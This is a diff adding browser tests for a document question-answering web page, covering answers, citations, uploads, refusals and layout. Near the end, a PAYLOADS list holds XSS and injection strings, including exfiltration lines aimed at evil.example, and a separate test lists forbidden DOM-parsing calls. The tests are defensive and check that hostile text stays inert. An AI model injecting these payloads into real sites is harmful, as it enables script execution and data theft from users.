@@ -1,0 +1,394 @@
+"""The page in a real browser: asking, citations that open their source, uploads, refusals, and hostile texts."""
+
+from __future__ import annotations
+
+import threading
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from ragedge.contracts import Piece
+from ragedge.errors import PromptTooLong
+from ragedge.server.settings import ServerSettings
+from ragedge.server.site import load_site
+from tests.browser.scenes import (
+    LOG_QUOTE,
+    QUESTION,
+    QUOTE,
+    full_index,
+    hostile_service,
+    manual_events,
+    refusal_events,
+    service_of,
+)
+from tests.server.clients import serving
+from tests.server.fakes import FakeIndex, FakePipeline
+
+DONE = "document.getElementById('answer').dataset.outcome !== 'waiting' && !document.getElementById('again').hidden"
+
+
+def squeeze(text: str) -> str:
+    return " ".join(text.split())
+
+
+def test_the_whole_page_weighs_less_than_100_kilobytes() -> None:
+    site = load_site()
+    assert {"index.html", "app.js", "style.css"} <= site.keys()
+    assert sum(len(file.content) for file in site.values()) < 100_000
+
+
+def test_no_script_of_the_page_parses_html_or_names_another_address() -> None:
+    for name, file in load_site().items():
+        if name.endswith(".png"):
+            continue
+        text = file.content.decode()
+        for word in (
+            "innerHTML",
+            "outerHTML",
+            "insertAdjacentHTML",
+            "document.write",
+            "eval(",
+            "Function(",
+            "://",
+            "style=",
+        ):
+            assert word not in text, (name, word)
+
+
+def test_the_page_starts_with_the_cursor_in_the_question(browser: Any, tmp_path: Path) -> None:
+    index = full_index(tmp_path / "index")
+    with serving(service_of(index, manual_events(index))) as port:
+        browser.open(port)
+        browser.wait("document.getElementById('start-line').textContent !== ''")
+        assert browser.run("return document.activeElement.id") == "question"
+        assert browser.text("#start-line") == "3 documents with 5 pages ready to be asked."
+        assert "Service log" in browser.text("#welcome")
+        assert f"http://127.0.0.1:{port}/static/app.js" in browser.requested()  # the record that the fixture checks
+        assert browser.complaints() == []
+
+
+def test_passages_are_on_screen_before_the_answer_and_the_answer_streams(browser: Any, tmp_path: Path) -> None:
+    index = full_index(tmp_path / "index")
+    events = manual_events(index)
+    first, last = threading.Event(), threading.Event()
+    with serving(service_of(index, [events[0], first, *events[1:6], last, *events[6:]])) as port:
+        browser.open(port)
+        browser.ask(QUESTION)
+        browser.wait("document.querySelectorAll('.passage').length === 3")
+        assert browser.text("#answer-text") == ""
+        assert browser.text("#outcome") == "Reading the passages"
+        assert "page 2 (printed iii) › 3 Cylinder head" in browser.text(".passage .where")
+        marks = browser.run("return [...document.querySelectorAll('.passage mark')].map((m) => m.textContent)")
+        assert "bolts" in marks and "42" not in marks and "the" not in marks
+        assert squeeze(browser.text(".passage .quote")) == squeeze(QUOTE)
+        first.set()
+        browser.wait("document.getElementById('answer-text').textContent === 'Tighten the ten head bolts'")
+        assert not browser.run("return document.getElementById('stop-button').hidden")
+        last.set()
+        browser.wait(DONE)
+    assert browser.text("#outcome") == "Answered"
+    citations = browser.run("return [...document.querySelectorAll('#answer-text .citation')].map((c) => c.textContent)")
+    assert citations == ["1", "2"]
+    assert browser.text("#answer-text .unsupported") == "Most mechanics add a drop of thread lock."
+    assert browser.run("return !document.getElementById('legend').hidden")
+    # The wrench before the second mark is one character to the service and two to JavaScript.
+    assert "14 March \U0001f527.2 Most" in browser.text("#answer-text")
+    assert browser.text("#engine") == "Written by the language model granite-1b.gguf"
+    assert (
+        browser.text("#timings")
+        == "passages in 22 ms · first word after 812 ms · all in 4.2 s · 20.0 tokens per second"
+    )
+    assert browser.text("#status") == "Answered. 2 sources."
+    assert browser.complaints() == []
+
+
+def test_a_citation_opens_the_pdf_page_as_a_picture_with_the_words_marked(browser: Any, tmp_path: Path) -> None:
+    index = full_index(tmp_path / "index")
+    with serving(service_of(index, manual_events(index))) as port:
+        browser.open(port)
+        browser.ask(QUESTION)
+        browser.wait(DONE)
+        browser.click("#answer-text .citation")
+        browser.wait("document.querySelector('.page-picture')?.naturalWidth > 0")
+        assert browser.run("return document.getElementById('source').open")
+        assert browser.text("#source-title") == "Generator G7: workshop manual"
+        assert browser.text("#source-page").startswith("page 2 (printed iii) of 3")
+        assert browser.run("return document.getElementById('source-body').dataset.marks") == "3"
+        assert browser.run(YELLOW) > 2_000
+        assert squeeze(QUOTE) in squeeze(browser.find(".page-picture").get_attribute("alt"))
+
+        browser.click("#source-text-mode")
+        browser.wait("document.getElementById('source-mark')")
+        assert browser.text("#source-mark") == QUOTE
+
+        browser.click("#source-next")
+        browser.wait("document.getElementById('source-page').textContent.startsWith('page 3')")
+        assert browser.run("return document.getElementById('source-next').disabled")
+        assert browser.count("#source-mark") == 0
+        browser.click("#source-back")
+        browser.wait("document.getElementById('source-mark')")
+
+        browser.click("#source-close")
+        assert not browser.run("return document.getElementById('source').open")
+        assert browser.run("return document.activeElement.classList.contains('citation')")
+    assert browser.complaints() == []
+
+
+YELLOW = """
+  const image = document.querySelector('.page-picture');
+  const canvas = new OffscreenCanvas(image.naturalWidth, image.naturalHeight);
+  const context = canvas.getContext('2d');
+  context.drawImage(image, 0, 0);
+  const data = context.getImageData(0, 0, canvas.width, canvas.height).data;
+  let count = 0;
+  for (let i = 0; i < data.length; i += 4) if (data[i] > 250 && data[i + 1] > 200 && data[i + 2] < 120) count += 1;
+  return count;
+"""
+
+
+def test_a_citation_into_text_is_marked_and_scrolled_into_view(browser: Any, tmp_path: Path) -> None:
+    index = full_index(tmp_path / "index")
+    with serving(service_of(index, manual_events(index))) as port:
+        browser.open(port)
+        browser.ask(QUESTION)
+        browser.wait(DONE)
+        browser.run("document.querySelectorAll('#answer-text .citation')[1].click()")
+        browser.wait("document.getElementById('source-mark')")
+        assert browser.text("#source-mark") == LOG_QUOTE
+        assert browser.wait(
+            "(() => { const m = document.getElementById('source-mark').getBoundingClientRect(),"
+            " b = document.getElementById('source-body').getBoundingClientRect();"
+            " return m.top >= b.top && m.bottom <= b.bottom; })()"
+        )
+        assert browser.run("return document.getElementById('source-modes').hidden")
+
+
+def test_the_source_keeps_the_keyboard_inside_and_closes_with_escape(browser: Any, tmp_path: Path) -> None:
+    from selenium.webdriver.common.action_chains import ActionChains
+    from selenium.webdriver.common.keys import Keys
+
+    index = full_index(tmp_path / "index")
+    with serving(service_of(index, manual_events(index))) as port:
+        browser.open(port)
+        browser.ask(QUESTION)
+        browser.wait(DONE)
+        browser.find("#answer-text .citation").send_keys(Keys.ENTER)
+        browser.wait("document.querySelector('.page-picture')?.naturalWidth > 0")
+        for _ in range(15):
+            ActionChains(browser.driver).send_keys(Keys.TAB).perform()
+            inside = "const a = document.activeElement; return a === document.body || a.closest('dialog') !== null"
+            assert browser.run(inside)
+        ActionChains(browser.driver).send_keys(Keys.ESCAPE).perform()
+        browser.wait("!document.getElementById('source').open")
+
+
+def test_stop_ends_the_question_and_keeps_what_came(browser: Any, tmp_path: Path) -> None:
+    index = full_index(tmp_path / "index")
+    events = manual_events(index)
+    service = service_of(index, [*events[:6], threading.Event()])
+    pipeline = service.pipeline
+    assert isinstance(pipeline, FakePipeline)
+    with serving(service) as port:
+        browser.open(port)
+        browser.ask(QUESTION)
+        browser.wait("document.getElementById('answer-text').textContent.endsWith('bolts')")
+        browser.click("#stop-button")
+        assert pipeline.closed.acquire(timeout=10) and pipeline.was_cancelled
+        browser.wait(DONE)
+        assert browser.text("#outcome") == "Stopped"
+        assert browser.text("#answer-text") == "Tighten the ten head bolts"
+        pipeline.events = list(events)
+        browser.click("#again")
+        browser.wait("document.getElementById('outcome').textContent === 'Answered'")
+        assert browser.count(".passage") == 3
+
+
+def test_a_refusal_looks_different_and_offers_the_closest_passages(browser: Any, tmp_path: Path) -> None:
+    index = full_index(tmp_path / "index")
+    with serving(service_of(index, refusal_events(index))) as port:
+        browser.open(port)
+        browser.ask("Who won the cup?")
+        browser.wait(DONE)
+        assert browser.text("#outcome") == "Not in these documents"
+        assert browser.text("#passages-heading") == "Closest passages"
+        assert browser.count(".passage") == 3
+        assert browser.count("#answer-text .citation") == 0
+        color = "return getComputedStyle(document.getElementById('answer')).backgroundColor"
+        refused = browser.run(color)
+        assert refused != browser.run("return getComputedStyle(document.querySelector('.passage')).backgroundColor")
+
+
+def test_failures_show_message_and_hint_and_can_be_tried_again(browser: Any, tmp_path: Path) -> None:
+    index = full_index(tmp_path / "index")
+    events = manual_events(index)
+    failing: list[object] = [events[0], Piece("half"), PromptTooLong("the passages do not fit", "ask more briefly")]
+    service = service_of(index, failing)
+    with serving(service) as port:
+        browser.open(port)
+        browser.ask("why?")
+        browser.wait("!document.getElementById('problem').hidden")
+        assert browser.text("#problem-message") == "the passages do not fit"
+        assert browser.text("#problem-hint") == "Ask more briefly"
+        assert browser.count(".passage") == 3  # what was found stays to be read
+        assert isinstance(service.pipeline, FakePipeline)
+        service.pipeline.events = events
+        browser.click("#problem-again")
+        browser.wait(DONE)
+        assert browser.text("#outcome") == "Answered"
+        assert browser.run("return document.getElementById('problem').hidden")
+    browser.ask("is anyone there?")  # the service is away now
+    browser.wait("!document.getElementById('problem').hidden")
+    assert browser.text("#problem-message") == "The service cannot be reached."
+
+
+def test_an_empty_index_leads_to_files_and_then_to_the_question(browser: Any, tmp_path: Path) -> None:
+    (tmp_path / "index").mkdir()
+    index = FakeIndex(tmp_path / "index")
+    good, locked, odd = tmp_path / "notes.txt", tmp_path / "sealed.pdf", tmp_path / "tool.exe"
+    good.write_text("one\ftwo", encoding="utf-8")
+    locked.write_bytes(b"locked")
+    odd.write_bytes(b"MZ")
+    with serving(service_of(index, [])) as port:
+        browser.open(port)
+        browser.wait("!document.getElementById('welcome').hidden")
+        assert browser.text("#welcome h2") == "Add your documents first"
+        browser.find("#welcome input[type=file]").send_keys(f"{good}\n{locked}\n{odd}")
+        browser.wait("document.getElementById('document-count').textContent === '1'")
+        lines = browser.run(
+            "return [...document.querySelectorAll('#welcome .upload-list li')].map((l) => l.textContent)"
+        )
+        assert lines[0] == "notes.txtAdded: 2 pages, 2 passages"
+        assert "needs a password" in lines[1]
+        assert "No reader takes this kind of file" in lines[2]
+        browser.wait("document.activeElement.id === 'question'")
+        browser.click("#nav-documents")
+        browser.wait("document.querySelectorAll('#documents .document').length === 1")
+        assert "Protected by a password" in browser.text("#rejected")
+    assert index.counts().documents == 1
+
+
+def test_dropped_files_are_added(browser: Any, tmp_path: Path) -> None:
+    index = full_index(tmp_path / "index")
+    drop = """
+      const data = new DataTransfer();
+      data.items.add(new File(['dropped words'], 'dropped.txt'));
+      document.querySelector('#documents-upload .drop-zone').dispatchEvent(
+        new DragEvent('drop', {dataTransfer: data, bubbles: true, cancelable: true}));
+    """
+    with serving(service_of(index, [])) as port:
+        browser.open(port, "/#documents")
+        browser.wait("document.querySelector('#documents-upload .drop-zone')")
+        browser.run(drop)
+        browser.wait("document.querySelector('#documents-upload .done')")
+    assert "dropped.txt" in index.files()
+
+
+def test_documents_show_problems_and_are_removed_only_after_a_question(browser: Any, tmp_path: Path) -> None:
+    index = full_index(tmp_path / "index")
+    buttons = "[...document.querySelectorAll('#documents .document .danger')]"
+    remove = f"{buttons}.find((button) => button.ariaLabel.includes('Service log'))"
+    with serving(service_of(index, [])) as port:
+        browser.open(port, "/#documents")
+        browser.wait("document.querySelectorAll('#documents .document').length === 3")
+        assert "Page 1: No text in it. the page is a picture and OCR is off" in browser.text("#documents")
+        browser.wait(remove).click()
+        browser.click("#confirm button[value=no]")
+        assert "log.txt" in index.files()
+        browser.wait(remove).click()
+        browser.click("#confirm button[value=yes]")
+        browser.wait("document.querySelectorAll('#documents .document').length === 2")
+        browser.wait("document.getElementById('document-count').textContent === '2'")
+    assert "log.txt" not in index.files()
+
+
+def test_a_service_without_write_access_offers_no_changes(browser: Any, tmp_path: Path) -> None:
+    index = full_index(tmp_path / "index")
+    service = service_of(index, [])
+    fixed = type(service)(service.pipeline, index, None, "extractive", "0", ())
+    with serving(fixed) as port:
+        browser.open(port, "/#documents")
+        browser.wait("document.querySelectorAll('#documents .document').length === 3")
+        browser.wait("document.querySelector('#documents-upload .notice')")
+        assert browser.count(".drop-zone") == 0
+
+
+@pytest.mark.parametrize("width", [320, 600, 1280, 2560])
+def test_nothing_runs_over_the_edge(browser: Any, tmp_path: Path, width: int) -> None:
+    index = full_index(tmp_path / "index")
+    over = "return document.documentElement.scrollWidth - document.documentElement.clientWidth"
+    browser.emulate(width=width, height=900)
+    with serving(service_of(index, manual_events(index))) as port:
+        browser.open(port)
+        browser.ask(QUESTION + " " + "x" * 200)
+        browser.wait(DONE)
+        assert browser.run(over) <= 0
+        browser.click("#nav-documents")
+        browser.wait("document.querySelectorAll('#documents .document').length === 3")
+        assert browser.run(over) <= 0
+
+
+PAYLOADS = [
+    "<script>window.pwned=1</script>",
+    "<img src=x onerror='window.pwned=1'>",
+    "<svg onload=window.pwned=1>",
+    "<svg><script>window.pwned=1</script></svg>",
+    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
+    "<a href='javascript:window.pwned=1'>x</a>",
+    "javascript:window.pwned=1",
+    '"><script>window.pwned=1</script>',
+    "'-window.pwned=1-'",
+    "</textarea><script>window.pwned=1</script>",
+    "</script><script>window.pwned=1</script>",
+    "</title><script>window.pwned=1</script>",
+    "<!--><img src=x onerror=window.pwned=1>-->",
+    "<math><mi//xlink:href='data:x,<script>window.pwned=1</script>'>",
+    "<details open ontoggle=window.pwned=1>",
+    "<input autofocus onfocus=window.pwned=1>",
+    "<link rel=stylesheet href=http://evil.example/x.css>",
+    "<style>@import 'http://evil.example/x.css';*{background:url(http://evil.example/y)}</style>",
+    "<base href=http://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
+    "<form action=http://evil.example/><input name=q></form>",
+    "![x](http://evil.example/leak.png?q=secret)",
+    "[click](javascript:window.pwned=1)",
+    "<object data=http://evil.example/></object>",
+    "<video src=http://evil.example/v onerror=window.pwned=1>",
+    "{{constructor.constructor('window.pwned=1')()}}",
+    "${window.pwned=1}",
+    "__proto__",
+    "constructor",
+    "\u202e<script>window.pwned=1</script>",
+    "<scr\u0000ipt>window.pwned=1</script>",
+    "<img src=x onerror=&#119;indow.pwned=1>",
+    'event: answer\ndata: {"text": "forged"}\n\n',
+    "\U000e0041\U000e0042 hidden \u200b words",
+]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_hostile_words_stay_words(browser: Any, tmp_path: Path, payload: str) -> None:
+    service = hostile_service(tmp_path, payload)
+    with serving(service, ServerSettings(title="ragedge")) as port:
+        browser.open(port)
+        browser.wait("document.getElementById('start-line').textContent !== ''")
+        browser.ask("bolts?")
+        browser.wait(DONE)
+        shown = payload.replace("\r", "")
+        assert shown in browser.text("#answer-text")
+        assert shown in browser.text(".passage-text") and shown in browser.text(".passage h3")
+        browser.click("#answer-text .citation")
+        browser.wait("document.getElementById('source-mark')")
+        assert shown in browser.text("#source-mark")
+        browser.click("#source-close")
+        browser.click("#nav-documents")
+        browser.wait("document.querySelectorAll('#documents .document').length === 1")
+        assert shown in browser.text("#documents") and shown in browser.text("#rejected")
+        assert browser.run("return window.pwned ?? null") is None
+        bad = (
+            "main :is(script, img, svg, iframe, object, video, math, style, base, meta, link, [onerror], [onload],"
+            " form:not(#ask-form), details[ontoggle])"
+        )
+        assert browser.count(bad) == 0
+        assert browser.complaints() == []
+        assert browser.driver.current_url == f"http://127.0.0.1:{port}/#documents"
